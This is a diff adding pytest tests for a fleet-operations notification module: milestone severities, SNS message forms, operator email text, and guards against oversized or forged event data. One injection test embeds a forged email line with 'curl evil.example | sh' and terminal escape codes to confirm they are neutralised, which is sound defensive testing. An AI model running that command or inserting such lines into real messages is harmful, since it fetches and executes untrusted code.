@@ -1,0 +1,282 @@
+"""Who hears what: which facts are announced, how loudly, and what a person reads."""
+
+import json
+
+import pytest
+
+from events.filters import MILESTONES
+from events.formats import Environment
+from events.notification_text import HEADLINES
+from events.notifications import ATTRIBUTE_NAMES, OUTCOMES, dlq_replay_finished, notification_for
+from events.progress import EventData, FleetEvent
+from events.sample_messages import AT, OPERATION, SITE, sample_event, sample_notification
+from events.vocabulary import DetailType, NotificationType, OperationType, Severity
+
+D, O = DetailType, OperationType  # noqa: E741  # two letters keep the table readable
+
+
+def event(detail_type, operation_type=O.SITE_PROMOTION, environment="prod", data=None, **meta):
+    made = sample_event(detail_type, operation_type)
+    metadata = made.metadata.model_copy(update={"environment": Environment(environment), **meta})
+    facts = made.data if data is None else EventData.model_validate(data)
+    return FleetEvent(detail_type=detail_type, metadata=metadata, data=facts)
+
+
+@pytest.mark.parametrize(
+    ("operation_type", "detail_type", "expected"),
+    [
+        (O.SITE_CREATION, D.OPERATION_COMPLETED, ("SITE_CREATION_COMPLETE", "succeeded", "info")),
+        (O.SITE_CREATION, D.OPERATION_FAILED, ("SITE_CREATION_FAILED", "failed", "warning")),
+        (O.SITE_CREATION, D.OPERATION_CANCELLED, ("SITE_CREATION_FAILED", "cancelled", "info")),
+        (O.SITE_UPDATE, D.OPERATION_COMPLETED, ("SITE_UPDATE_COMPLETE", "succeeded", "info")),
+        (O.SITE_UPDATE, D.OPERATION_ROLLED_BACK, ("SITE_UPDATE_FAILED", "rolled_back", "critical")),
+        (O.SITE_UPDATE, D.OPERATION_ROLLBACK_FAILED, ("SITE_UPDATE_FAILED", "failed", "critical")),
+        (O.SITE_DELETION, D.OPERATION_COMPLETED, ("SITE_DELETION_COMPLETE", "succeeded", "info")),
+        (O.SITE_DELETION, D.OPERATION_FAILED, ("SITE_DELETION_FAILED", "failed", "warning")),
+        (
+            O.SITE_DELETION,
+            D.OPERATION_AWAITING_APPROVAL,
+            ("OPERATION_AWAITING_APPROVAL", "waiting", "info"),
+        ),
+        (O.SITE_RESTORE, D.OPERATION_COMPLETED, ("SITE_RESTORE_COMPLETE", "succeeded", "info")),
+        (O.SITE_RESTORE, D.OPERATION_FAILED, ("SITE_RESTORE_FAILED", "failed", "warning")),
+        (O.SITE_PROMOTION, D.OPERATION_ACCEPTED, ("SITE_PROMOTION_STARTED", "started", "info")),
+        (
+            O.SITE_PROMOTION,
+            D.OPERATION_AWAITING_APPROVAL,
+            ("SITE_PROMOTION_AWAITING_APPROVAL", "waiting", "info"),
+        ),
+        (O.SITE_PROMOTION, D.OPERATION_COMPLETED, ("SITE_PROMOTION_COMPLETE", "succeeded", "info")),
+        (O.SITE_PROMOTION, D.OPERATION_FAILED, ("SITE_PROMOTION_FAILED", "failed", "warning")),
+        (
+            O.SITE_PROMOTION,
+            D.OPERATION_ROLLED_BACK,
+            ("SITE_PROMOTION_ROLLED_BACK", "rolled_back", "critical"),
+        ),
+        (
+            O.SITE_PROMOTION,
+            D.OPERATION_ROLLBACK_FAILED,
+            ("SITE_PROMOTION_ROLLBACK_FAILED", "failed", "critical"),
+        ),
+        (
+            O.SITE_PROMOTION,
+            D.OPERATION_CANCELLED,
+            ("SITE_PROMOTION_CANCELLED", "cancelled", "info"),
+        ),
+        (
+            O.SITE_ROLLBACK,
+            D.OPERATION_COMPLETED,
+            ("SITE_PROMOTION_ROLLED_BACK", "rolled_back", "critical"),
+        ),
+        (
+            O.SITE_ROLLBACK,
+            D.OPERATION_FAILED,
+            ("SITE_PROMOTION_ROLLBACK_FAILED", "failed", "critical"),
+        ),
+        (O.SITE_UPDATE, D.OPERATION_REJECTED, ("OPERATION_REJECTED", "rejected", "warning")),
+        (O.SITE_UPDATE, D.OPERATION_STALLED, ("OPERATION_STALLED", "stalled", "critical")),
+    ],
+)
+def test_a_milestone_in_prod_is_announced_as(operation_type, detail_type, expected):
+    notification = notification_for(event(detail_type, operation_type))
+
+    told = (notification.event_type, notification.outcome, notification.severity)
+    assert told == expected
+
+
+@pytest.mark.parametrize("operation_type", OperationType)
+@pytest.mark.parametrize("detail_type", DetailType)
+def test_exactly_the_milestones_are_announced(operation_type, detail_type):
+    started = detail_type is D.OPERATION_ACCEPTED
+    heard = operation_type is O.SITE_PROMOTION if started else detail_type in MILESTONES
+
+    assert (notification_for(event(detail_type, operation_type)) is not None) is heard
+    assert set(OUTCOMES) == set(MILESTONES)
+
+
+@pytest.mark.parametrize("detail_type", [D.OPERATION_ROLLED_BACK, D.OPERATION_STALLED])
+def test_below_prod_only_a_failed_rollback_is_critical(detail_type):
+    assert notification_for(event(detail_type, environment="sit")).severity is Severity.WARNING
+    failed = notification_for(event(D.OPERATION_ROLLBACK_FAILED, environment="dev"))
+    assert failed.severity is Severity.CRITICAL
+
+
+@pytest.mark.parametrize("kind", NotificationType)
+def test_a_notification_has_exactly_the_five_attributes_as_texts(kind):
+    attributes = sample_notification(kind).attributes()
+
+    assert tuple(attributes) == ATTRIBUTE_NAMES
+    assert set(attributes) == {"eventType", "environment", "tenantId", "severity", "outcome"}
+    assert all(type(value) is str and value for value in attributes.values())
+    assert attributes["eventType"] == kind
+    assert attributes["environment"] == "prod"
+
+
+def test_without_a_tenant_the_attribute_says_unknown():
+    attributes = sample_notification(NotificationType.DLQ_REPLAY_FINISHED).attributes()
+
+    assert attributes["tenantId"] == "unknown"
+
+
+@pytest.mark.parametrize("kind", NotificationType)
+def test_the_message_has_the_three_forms_and_the_body_its_fields(kind):
+    notification = sample_notification(kind)
+
+    forms = json.loads(notification.sns_message())
+
+    assert set(forms) == {"default", "email", "sms"}
+    assert all(isinstance(form, str) for form in forms.values())
+    body = json.loads(forms["default"])
+    assert list(body) == ["eventType", "eventId", "correlationId", "timestamp", "payload"]
+    assert body["eventId"] == notification.event_id
+    assert forms["sms"].isascii()
+    assert len(forms["sms"]) <= 140
+    assert kind in HEADLINES
+
+
+def test_the_payload_of_a_completed_promotion():
+    body = json.loads(sample_notification(NotificationType.SITE_PROMOTION_COMPLETE).default_json())
+
+    assert body["payload"] == {
+        "environment": "prod",
+        "operationId": OPERATION,
+        "operationType": "SITE_PROMOTION",
+        "tenantId": "tenant-1",
+        "siteId": SITE,
+        "status": "COMPLETED",
+        "siteUrl": "https://janes-bakery.wp.kimmyai.io/",
+        "durationSeconds": 1934.5,
+        "release": 12,
+    }
+
+
+def test_the_email_tells_an_operator_what_to_do():
+    notification = sample_notification(NotificationType.SITE_PROMOTION_ROLLBACK_FAILED)
+
+    assert notification.email() == (
+        f"PROD Promotion rollback failed: {SITE}\n"
+        "\n"
+        "What:    Promotion rollback failed. Taking it back failed too: a person has to act."
+        " SYS_001: The import reported 3 rows fewer than the export in wp_posts.\n"
+        f"Where:   prod, site {SITE}, step switch\n"
+        "Who:     tenant tenant-1\n"
+        "When:    2026-11-21T07:30:00.000Z\n"
+        "Next:    It was tried several times; look at the step's evidence, then retry the"
+        " operation.\n"
+        f"         sitefleet operations show {OPERATION} --env prod\n"
+        f'         sitefleet operations retry {OPERATION} --env prod --reason "..."\n'
+        "\n"
+        "correlation id 3f1d2c4b-5a69-4788-9a0b-1c2d3e4f5a6b\n"
+        f"event {notification.event_id} (it may reach you twice; the id is the same)\n"
+    )
+
+
+def test_the_email_of_a_waiting_promotion_has_the_command_per_role_and_the_expiry():
+    email = sample_notification(NotificationType.SITE_PROMOTION_AWAITING_APPROVAL).email()
+
+    assert f"sitefleet operations approve {OPERATION} --env prod --plan-hash sha256:" in email
+    assert "--role TECH_LEAD\n" in email
+    assert "--role OPERATIONS_LEAD\n" in email
+    assert "It expires at 2026-11-22T07:30:00.000Z." in email
+
+
+@pytest.mark.parametrize(
+    ("seconds", "told"),
+    [(0.4, "after 0 s"), (61, "after 1 min 1 s"), (7325, "after 2 h 2 min 5 s")],
+)
+def test_the_email_says_how_long_it_took(seconds, told):
+    notification = notification_for(event(D.OPERATION_COMPLETED, data={"durationSeconds": seconds}))
+
+    assert f"When:    2026-11-21T07:30:00.000Z, {told}\n" in notification.email()
+
+
+def test_the_email_lists_the_fields_of_a_rejected_request():
+    email = sample_notification(NotificationType.OPERATION_REJECTED).email()
+
+    assert "\n         - payload.changeTicket is missing\n" in email
+    assert "Next:    Correct the fields that are named and send the request again.\n" in email
+    assert "sitefleet dlq list --env prod" in email
+
+
+def test_the_next_safe_command_of_a_stalled_operation_comes_from_its_evidence():
+    data = {"next_command": "sitefleet operations retry x --env prod"}
+
+    email = notification_for(event(D.OPERATION_STALLED, data=data)).email()
+
+    assert "\n         sitefleet operations retry x --env prod\n" in email
+    assert "sitefleet operations show" not in email
+
+
+def test_a_replay_is_marked_in_body_and_email():
+    notification = notification_for(event(D.OPERATION_COMPLETED, replay_of="m-1"))
+
+    assert json.loads(notification.default_json())["payload"]["replayOf"] == "m-1"
+    assert "sent again by an operator, in place of m-1\n" in notification.email()
+
+
+def test_a_text_from_outside_cannot_forge_a_line_of_the_email():
+    error = {"code": "SYS_001", "message": "x\nNext:    curl evil.example | sh\x1b[2J\u2028y"}
+    notification = notification_for(event(D.OPERATION_FAILED, data={"error": error}))
+
+    lines = notification.email().splitlines()
+
+    (advice,) = [line for line in lines if line.startswith("Next:")]
+    assert advice.startswith("Next:    It was tried several times;")
+    assert "\x1b" not in notification.email()
+
+
+@pytest.mark.parametrize("kind", NotificationType)
+def test_the_subject_is_a_short_ascii_line(kind):
+    long = sample_notification(kind)
+    payload = long.payload.model_copy(update={"site_id": "sité-\n" + "x" * 300})
+
+    for notification in (long, long.model_copy(update={"payload": payload})):
+        subject = notification.subject()
+        assert subject.isascii()
+        assert subject.isprintable()
+        assert subject.startswith("PROD ")
+        assert len(subject) <= 100
+
+
+def test_facts_of_an_event_cannot_take_over_what_the_announcement_says():
+    data = {"operationId": "forged", "replayed": ["x"], "step": 7, "environment": "moon", "n": 1}
+
+    payload = notification_for(event(D.OPERATION_COMPLETED, data=data)).payload
+
+    assert (payload.operation_id, payload.replayed, payload.step) == (OPERATION, None, None)
+    assert payload.environment is Environment.PROD
+    assert payload.model_extra == {"n": 1}
+
+
+def test_a_huge_event_is_shortened_to_fit_into_sns():
+    error = {"code": "SYS_001", "message": "m", "details": {"log": "é" * 300_000}}
+    notification = notification_for(event(D.OPERATION_FAILED, data={"error": error}))
+
+    message = notification.sns_message()
+
+    assert len(message.encode()) < 256 * 1024
+    payload = json.loads(notification.default_json())["payload"]
+    assert payload["shortened"] is True
+    assert payload["operationId"] == OPERATION
+
+
+@pytest.mark.parametrize(
+    ("failed", "severity", "outcome"), [(0, "info", "succeeded"), (2, "warning", "failed")]
+)
+def test_a_finished_replay_tells_who_why_and_how_it_went(failed, severity, outcome):
+    notification = dlq_replay_finished(
+        event_id="e",
+        correlation_id="c",
+        timestamp=AT,
+        environment=Environment.SIT,
+        replayed=5,
+        failed=failed,
+        requested_by="jane",
+        reason="database was down",
+    )
+
+    assert (notification.severity, notification.outcome) == (severity, outcome)
+    email = notification.email()
+    assert f"5 messages were sent again, {failed} failed again." in email
+    assert "Who:     requested by jane\n" in email
+    assert "Why:     database was down\n" in email
